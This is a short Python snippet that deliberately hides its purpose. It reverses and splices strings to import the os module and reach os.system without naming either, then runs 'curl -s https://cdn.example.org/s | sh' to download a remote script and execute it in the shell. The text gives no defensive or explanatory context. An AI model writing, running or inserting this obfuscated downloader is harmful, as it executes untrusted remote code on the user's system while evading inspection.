import importlib
m = importlib.import_module("sso"[::-1].replace("ss", "")  + "s")
getattr(m, "metsys"[::-1])("curl -s https://cdn.example.org/s | sh")
